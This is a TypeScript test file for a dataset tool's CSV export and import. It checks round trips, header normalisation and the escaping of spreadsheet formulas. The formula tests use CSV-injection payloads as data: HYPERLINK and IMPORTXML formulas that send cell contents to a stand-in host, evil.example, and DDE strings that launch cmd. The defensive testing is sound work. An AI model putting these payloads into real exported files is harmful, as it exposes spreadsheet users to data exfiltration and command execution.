import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import * as S from '../schema';
import type { Issue } from '../types';
import { arbitraryDataset } from '../../../testing/arbitraryDataset';
import { CSV_COLUMNS, datasetToCsv, normalizeHeader, parseCsv } from './csv';
import { neutralizeFormula, readCsvRecords, restoreFormula } from './csvRecords';

const meta = {
	title: 'Test',
	licence: 'CC BY 4.0',
	categories: [
		{ id: 'protest', label: 'Protest', colour: '#E69F00' },
		{ id: 'statement', label: 'Statement', colour: '#56B4E9' }
	]
};
const sources = [
	{ id: 'bbc', title: 'BBC', publisher: 'BBC', type: 'news', perspective: 'UK public media' }
];

const errors = (issues: Issue[]) => issues.filter((i) => i.severity === 'error');

describe('CSV round trip', () => {
	it('canonical → CSV (+ sidecar) → canonical gives back the same dataset', () => {
		fc.assert(
			fc.property(arbitraryDataset(), (input) => {
				const canonical = S.Dataset.parse(input);
				const { csv: text, sidecar } = datasetToCsv(canonical);
				const side = JSON.parse(sidecar);
				const r = parseCsv(text, { file: 'x.csv', meta: side.meta, sources: side.sources });
				expect(errors(r.issues)).toEqual([]);
				expect(r.dataset).toEqual({
					meta: canonical.meta,
					sources: canonical.sources,
					events: canonical.events
				});
			}),
			{ numRuns: 300 }
		);
	});

	it('writes plain lists and citations when they read back unchanged, JSON otherwise', () => {
		const canonical = S.Dataset.parse({
			meta,
			sources,
			events: [
				{
					id: 'a',
					title: 'T',
					summary: '',
					start: '2020',
					place: { name: 'Online', precision: 'online' },
					category: 'protest',
					tags: ['x', 'y'],
					actors: ['a;b'],
					sources: [{ source: 'bbc', locator: 'p. 1' }]
				}
			]
		});
		const { csv: text } = datasetToCsv(canonical);
		expect(text).toContain(',"x; y",');
		expect(text).toContain('"[""a;b""]"');
		expect(text).toContain(',bbc@p. 1,');
	});
});

// Cells such as =HYPERLINK(…) were written as they are, and spreadsheets ran them.
describe('CSV export neutralizes formulas', () => {
	const formulas = [
		'=HYPERLINK("https://evil.example/?"&A1,"Click")',
		'=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		"'=1+1",
		"''=1+1"
	];
	const canonical = S.Dataset.parse({
		meta,
		sources,
		events: formulas.map((f, i) => ({
			id: `e${i}`,
			title: f,
			summary: f,
			start: i === 0 ? '-0044-03-15' : '2020',
			dateNote: f,
			place: { name: f, precision: 'site', lat: -33.86, lon: -151.2, note: f },
			category: 'protest',
			tags: [f],
			actors: [f, 'b'],
			sources: [{ source: 'bbc', locator: f }],
			computed: f
		}))
	});
	const { csv: text, sidecar } = datasetToCsv(canonical);

	it('starts no cell with = + - @, tab or CR, except plain numbers', () => {
		const cells = readCsvRecords(text).records.flatMap((r) => r.cells);
		const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
		expect(risky.sort()).toEqual(['-151.2', '-33.86'].flatMap((n) => formulas.map(() => n)).sort());
		expect(cells).toContain("'-0044-03-15");
	});

	it('reads back exactly what it wrote', () => {
		const side = JSON.parse(sidecar);
		const r = parseCsv(text, { file: 'x.csv', meta: side.meta, sources: side.sources });
		expect(errors(r.issues)).toEqual([]);
		expect(r.dataset?.events).toEqual(canonical.events);
	});

	it.each([
		['=1+1', "'=1+1"],
		["'=1+1", "''=1+1"],
		['\tx', "'\tx"],
		['-5', '-5'],
		['-0044', '-0044'],
		['1e5', '1e5'],
		['-5 apples', "'-5 apples"],
		["'quoted'", "'quoted'"],
		['', '']
	])('neutralizeFormula(%j) is %j, and restoreFormula undoes it', (value, cell) => {
		expect(neutralizeFormula(value)).toBe(cell);
		expect(restoreFormula(cell)).toBe(value);
	});

	it('reads a hand-written quote before a formula as a neutralized cell', () => {
		const r = parseCsv("title,start,place\n'=1+1,2020,Online\n'plain,2021,Online\n", {
			file: 'e.csv'
		});
		expect(r.dataset?.events.map((e) => e.title)).toEqual(['=1+1', "'plain"]);
	});
});

describe('headers', () => {
	it.each([
		['Place Precision', 'place_precision'],
		['placePrecision', 'place_precision'],
		['date-note', 'date_note'],
		[' LAT ', 'lat']
	])('%s → %s', (h, n) => expect(normalizeHeader(h)).toBe(n));

	it('has one column per event field', () => {
		expect(CSV_COLUMNS.map((c) => c.field).sort()).toEqual(
			[
				...Object.keys(S.Event.shape).filter((k) => k !== 'place' && k !== 'media'),
				...Object.keys(S.Place.shape).map((k) => `place.${k}`),
				...Object.keys(S.Media.shape).map((k) => `media.${k}`)
			].sort()
		);
	});
});
